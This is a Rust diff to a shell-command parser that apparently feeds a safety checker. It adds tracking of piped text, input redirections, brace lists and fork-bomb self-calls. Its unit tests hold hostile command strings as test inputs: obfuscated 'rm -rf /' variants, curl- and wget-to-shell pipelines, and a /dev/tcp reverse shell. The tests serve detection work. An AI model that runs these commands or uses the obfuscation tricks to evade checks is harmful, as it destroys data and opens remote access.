@@ -40,6 +40,7 @@ pub(crate) fn parse(text: &[u8], depth: usize) -> Result<Vec<Unit<'static>>, She
     let mut walker = Walker {
         options: ParserOptions::default(),
         units: Vec::new(),
+        functions: Vec::new(),
     };
     walker.parse(text, depth)?;
     Ok(walker.units)
@@ -48,12 +49,17 @@ pub(crate) fn parse(text: &[u8], depth: usize) -> Result<Vec<Unit<'static>>, She
 struct Walker {
     options: ParserOptions,
     units: Vec<Unit<'static>>,
+    /// Shell functions whose bodies are being walked, to spot self-calls (fork bombs).
+    functions: Vec<String>,
 }
 
 /// What redirections contribute to the commands they apply to.
 #[derive(Default)]
 struct Redirections {
+    /// Files written (`>`, `>>`, `>&`, `&>`).
     targets: Vec<Vec<u8>>,
+    /// Files read (`<`).
+    inputs: Vec<Vec<u8>>,
     stdin_text: Option<Vec<u8>>,
     feeders: Vec<Vec<u8>>,
 }
@@ -88,18 +94,24 @@ impl Walker {
         Ok(())
     }
 
-    /// Each stage is fed by the programs of all earlier stages (`curl … | tee | sh`).
+    /// Each stage is fed by the programs of all earlier stages (`curl … | tee | sh`); text
+    /// that `echo`, `printf` or `cat <<EOF` pipe on becomes the next stage's standard input.
     fn pipeline(&mut self, pipeline: &ast::Pipeline, depth: usize) -> Result<(), ShellError> {
         let mut upstream: Vec<Vec<u8>> = Vec::new();
+        let mut carried: Option<Vec<u8>> = None;
         for command in &pipeline.seq {
             let start = self.units.len();
             self.command(command, depth)?;
             for unit in &mut self.units[start..] {
                 unit.fed_by.extend(upstream.iter().cloned().map(Cow::Owned));
             }
+            if let (Some(text), Some(first)) = (carried.take(), self.units.get_mut(start)) {
+                first.stdin_text.get_or_insert(Cow::Owned(text));
+            }
             for unit in &self.units[start..] {
                 program_names(unit, 0, &mut upstream);
             }
+            carried = self.units.get(start).and_then(piped_text);
         }
         Ok(())
     }
@@ -114,7 +126,10 @@ impl Walker {
             }
             ast::Command::Function(function) => {
                 let start = self.units.len();
-                self.compound(&function.body.0, depth)?;
+                self.functions.push(function.fname.value.clone());
+                let walked = self.compound(&function.body.0, depth);
+                self.functions.pop();
+                walked?;
                 self.apply_redirects(start, function.body.1.as_ref(), depth)
             }
             ast::Command::ExtendedTest(test, _) => {
@@ -201,6 +216,16 @@ impl Walker {
         }
         declared_variables(&mut unit);
         unit.program = unit.argv.first().cloned().unwrap_or_default();
+        if self
+            .functions
+            .iter()
+            .any(|f| f.as_bytes() == &*unit.program)
+        {
+            // A function that calls itself: reached `via` "NAME()" (see the fork bomb rule).
+            let mut marker = unit.program.to_vec();
+            marker.extend(b"()");
+            unit.via.push(Cow::Owned(marker));
+        }
         unit.fed_by.extend(
             feeders
                 .into_iter()
@@ -209,6 +234,8 @@ impl Walker {
         );
         unit.redirects
             .extend(redirections.targets.into_iter().map(Cow::Owned));
+        unit.inputs
+            .extend(redirections.inputs.into_iter().map(Cow::Owned));
         unit.stdin_text = redirections.stdin_text.map(Cow::Owned);
         self.units[slot] = unit;
         Ok(())
@@ -250,10 +277,22 @@ impl Walker {
     ) -> Result<(), ShellError> {
         use ast::IoFileRedirectTarget as T;
         match redirect {
-            ast::IoRedirect::File(_, _, target) => match target {
+            ast::IoRedirect::File(_, kind, target) => match target {
                 T::Filename(w) | T::Duplicate(w) => {
+                    use ast::IoFileRedirectKind as K;
                     let words = self.word(w, depth, &mut into.feeders)?;
-                    into.targets.extend(words);
+                    let words = words.into_iter().filter(|w| !is_fd(w));
+                    match kind {
+                        K::Read | K::DuplicateInput => into.inputs.extend(words),
+                        K::ReadAndWrite => {
+                            let words: Vec<_> = words.collect();
+                            into.inputs.extend(words.iter().cloned());
+                            into.targets.extend(words);
+                        }
+                        K::Write | K::Append | K::Clobber | K::DuplicateOutput => {
+                            into.targets.extend(words)
+                        }
+                    }
                 }
                 T::Fd(_) => {}
                 T::ProcessSubstitution(_, subshell) => {
@@ -294,6 +333,8 @@ impl Walker {
         for unit in &mut self.units[start..] {
             unit.redirects
                 .extend(found.targets.iter().cloned().map(Cow::Owned));
+            unit.inputs
+                .extend(found.inputs.iter().cloned().map(Cow::Owned));
             unit.fed_by
                 .extend(found.feeders.iter().cloned().map(Cow::Owned));
             if unit.stdin_text.is_none() {
@@ -313,6 +354,9 @@ impl Walker {
     ) -> Result<Vec<Vec<u8>>, ShellError> {
         let pieces = word::parse(&word.value, &self.options)
             .map_err(|e| ShellError::Syntax(e.to_string()))?;
+        if let Some(words) = simple_brace_list(&word.value) {
+            return Ok(words);
+        }
         let mut text = Vec::new();
         let mut substitutions = Vec::new();
         render(&word.value, &pieces, &mut text, &mut substitutions);
@@ -377,6 +421,37 @@ fn render(source: &str, pieces: &[WordPieceWithSource], out: &mut Vec<u8>, subs:
             }
         }
     }
+}
+
+/// `{rm,-rf,/}` is three words to bash. Only the plain form (no quotes, expansions or
+/// nesting) is split; anything fancier stays one word.
+fn simple_brace_list(raw: &str) -> Option<Vec<Vec<u8>>> {
+    let inner = raw.strip_prefix('{')?.strip_suffix('}')?;
+    let plain = inner.contains(',')
+        && !inner.contains(|c: char| "{}'\"\\$`".contains(c) || c.is_whitespace());
+    plain.then(|| inner.split(',').map(|w| w.as_bytes().to_vec()).collect())
+}
+
+/// What a pipeline stage writes, when the engine can know it: `echo`/`printf` arguments,
+/// or the here-document `cat` copies.
+fn piped_text(unit: &Unit<'_>) -> Option<Vec<u8>> {
+    let args = unit.args();
+    match unit.name() {
+        b"echo" | b"printf" => {
+            let words: Vec<&[u8]> = args
+                .iter()
+                .map(|a| &**a)
+                .skip_while(|a| a.starts_with(b"-"))
+                .collect();
+            Some(words.join(&b' '))
+        }
+        b"cat" if args.is_empty() => unit.stdin_text.as_ref().map(|t| t.to_vec()),
+        _ => None,
+    }
+}
+
+fn is_fd(word: &[u8]) -> bool {
+    !word.is_empty() && word.iter().all(|b| b.is_ascii_digit() || *b == b'-')
 }
 
 /// Inside backquotes, `\$`, `` \` `` and `\\` stand for the character itself.
@@ -554,5 +629,98 @@ fn extended_test_words<'a>(expr: &'a ast::ExtendedTestExpr, into: &mut Vec<&'a a
             into.push(a);
             into.push(b);
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn text(words: &[Cow<'_, [u8]>]) -> Vec<String> {
+        words
+            .iter()
+            .map(|w| String::from_utf8_lossy(w).into_owned())
+            .collect()
+    }
+
+    fn argvs(input: &str) -> Vec<Vec<String>> {
+        parse(input.as_bytes(), 0)
+            .unwrap()
+            .iter()
+            .map(|u| text(&u.argv))
+            .collect()
+    }
+
+    #[test]
+    fn quotes_escapes_and_expansions_are_resolved() {
+        assert_eq!(argvs("'r'm -rf /"), [["rm", "-rf", "/"]]);
+        assert_eq!(argvs(r"r\m -rf /"), [["rm", "-rf", "/"]]);
+        assert_eq!(argvs(r"$'\x72\155' x"), [["rm", "x"]]);
+        assert_eq!(argvs("{rm,-rf,/}"), [["rm", "-rf", "/"]]);
+        assert_eq!(argvs("rm${IFS}-rf${IFS}/"), [["rm", "-rf", "/"]]);
+        assert_eq!(
+            argvs("rm \"$HOME\" ${HOME}/x ~/"),
+            [["rm", "$HOME", "$HOME/x", "~/"]]
+        );
+    }
+
+    #[test]
+    fn every_simple_command_is_found() {
+        assert_eq!(
+            argvs("a 1 && b || (c; { d; }) | e & f $(g `h`)"),
+            [
+                vec!["a", "1"],
+                vec!["b"],
+                vec!["c"],
+                vec!["d"],
+                vec!["e"],
+                vec!["f", "$(g `h`)"],
+                vec!["g", "`h`"],
+                vec!["h"]
+            ]
+        );
+        assert_eq!(
+            argvs("for x in $(ls); do rm $x; done"),
+            [vec!["ls"], vec!["rm", "$x"]]
+        );
+    }
+
+    #[test]
+    fn pipelines_substitutions_and_redirections_are_recorded() {
+        let units = parse(b"curl x | sudo tee f | sh", 0).unwrap();
+        assert_eq!(text(&units[2].fed_by), ["curl", "sudo", "tee"]);
+        let units = parse(b"bash <(wget -O- x)", 0).unwrap();
+        assert_eq!(text(&units[0].fed_by), ["wget"]);
+        let units = parse(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1 < in.txt", 0).unwrap();
+        assert_eq!(text(&units[0].redirects), ["/dev/tcp/1.2.3.4/1"]);
+        assert_eq!(text(&units[0].inputs), ["in.txt"]);
+        let units = parse(b"LD_PRELOAD= A=1 ls; unset B; export C=2", 0).unwrap();
+        assert_eq!(text(&units[0].env), ["LD_PRELOAD", "A"]);
+        assert_eq!(text(&units[1].env), ["B"]);
+        assert_eq!(text(&units[2].env), ["C"]);
+        let units = parse(b"echo 'rm -rf /' | sh", 0).unwrap();
+        assert_eq!(units[1].stdin_text.as_deref(), Some(&b"rm -rf /"[..]));
+        let units = parse(b"sh <<EOF\nrm x\nEOF\n", 0).unwrap();
+        assert_eq!(units[0].stdin_text.as_deref(), Some(&b"rm x\n"[..]));
+    }
+
+    #[test]
+    fn limits_are_errors() {
+        assert_eq!(
+            parse(&vec![b'a'; MAX_LEN + 1], 0).err(),
+            Some(ShellError::TooLong(MAX_LEN + 1))
+        );
+        assert_eq!(parse(b"ls", MAX_DEPTH + 1).err(), Some(ShellError::TooDeep));
+        let deep = format!(
+            "{}x{}",
+            "(".repeat(MAX_DEPTH + 1),
+            ")".repeat(MAX_DEPTH + 1)
+        );
+        assert_eq!(parse(deep.as_bytes(), 0).err(), Some(ShellError::TooDeep));
+        assert!(matches!(parse(b"echo 'x", 0), Err(ShellError::Syntax(_))));
+        assert_eq!(
+            parse("x;".repeat(MAX_UNITS + 1).as_bytes(), 0).err(),
+            Some(ShellError::TooMany)
+        );
     }
 }
